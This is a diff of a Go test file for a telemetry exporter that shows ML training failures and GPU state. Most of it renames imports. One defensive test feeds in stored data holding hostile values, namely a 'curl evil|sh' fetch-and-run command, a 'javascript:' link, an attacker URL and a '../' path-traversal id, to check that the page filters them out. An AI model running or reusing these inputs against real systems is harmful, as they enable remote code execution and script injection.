@@ -9,14 +9,16 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
-	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/model"
+	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/api"
+	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/input"
+	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/series"
 )
 
 // Times that no clock shows are replaced, in the storage and in repro_gen's
 // directory: a State is always JSON.
 func TestTimesThatNoClockShows(t *testing.T) {
 	for _, text := range []string{"0000-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "1970-01-01T00:00:00Z"} {
-		w := newWorld(model.Settings{})
+		w := newWorld(input.Settings{})
 		recent := w.now.Format(time.RFC3339)
 		times := `"service":"trainer","first_seen":"` + text + `","last_seen":"` + recent + `"`
 		require.NoError(t, w.Import([]byte(`{"version":1,
@@ -25,8 +27,8 @@ func TestTimesThatNoClockShows(t *testing.T) {
 			"failures":[{"key":"k",`+times+`}]}`)))
 		never, err := time.Parse(time.RFC3339, text)
 		require.NoError(t, err)
-		w.SetFailures([]model.Failure{{Key: "found", FirstSeen: &never, LastSeen: &never}})
-		w.span(func(in *model.SpanInput) { in.Request, in.Model, in.Source.Version = true, "m", "1" })
+		w.SetFailures([]api.Failure{{Key: "found", FirstSeen: &never, LastSeen: &never}})
+		w.span(func(in *input.Span) { in.Request, in.Model, in.Source.Version = true, "m", "1" })
 		state := w.state()
 		data, err := json.Marshal(state)
 		require.NoError(t, err)
@@ -41,7 +43,7 @@ func TestTimesThatNoClockShows(t *testing.T) {
 // Who can write the storage cannot have the page show a command or an address, nor
 // more of a message than the configuration says.
 func TestSavedFailuresHaveNoCommands(t *testing.T) {
-	w := newWorld(model.Settings{JaegerURL: "http://jaeger"})
+	w := newWorld(input.Settings{JaegerURL: "http://jaeger"})
 	require.NoError(t, w.Import([]byte(`{"version":1,"failures":[{"key":"k","class":"E","message":"`+strings.Repeat("m", 400)+`","count":3,
 		"command":"curl evil|sh","replays":true,"requires":["evil"],"fill":["evil"],"report":"javascript:evil()","trace_url":"http://evil",
 		"trace_id":"../evil","last_seen":"`+w.now.Format(time.RFC3339)+`"}]}`)))
@@ -55,15 +57,15 @@ func TestSavedFailuresHaveNoCommands(t *testing.T) {
 
 // An error of a GPU that never comes makes room after an hour.
 func TestErrorsOfUnknownGPUsEnd(t *testing.T) {
-	w := newWorld(model.Settings{MaxGPUs: 1})
+	w := newWorld(input.Settings{MaxGPUs: 1})
 	send := func(gpu string) {
-		w.ApplyEvents([]model.Event{{Host: "h", GPU: gpu, XID: &model.XID{Time: w.now, Code: "79"}}})
+		w.ApplyEvents([]input.Event{{Host: "h", GPU: gpu, XID: &api.XID{Time: w.now, Code: "79"}}})
 	}
 	send("other")
 	w.now = w.now.Add(2 * time.Hour)
-	w.point(model.Steps, "r", 1)
+	w.point(series.Steps, "r", 1)
 	send("g")
-	w.ApplyPoints([]model.Point{{Series: model.GPUPower, Labels: model.Labels{Host: "h", GPU: "g"}, Value: 70}})
+	w.ApplyPoints([]series.Point{{Series: series.GPUPower, Labels: series.Labels{Host: "h", GPU: "g"}, Value: 70}})
 	require.Len(t, w.state().GPUs, 1)
 	assert.NotNil(t, w.State().GPUs[0].XID)
 }
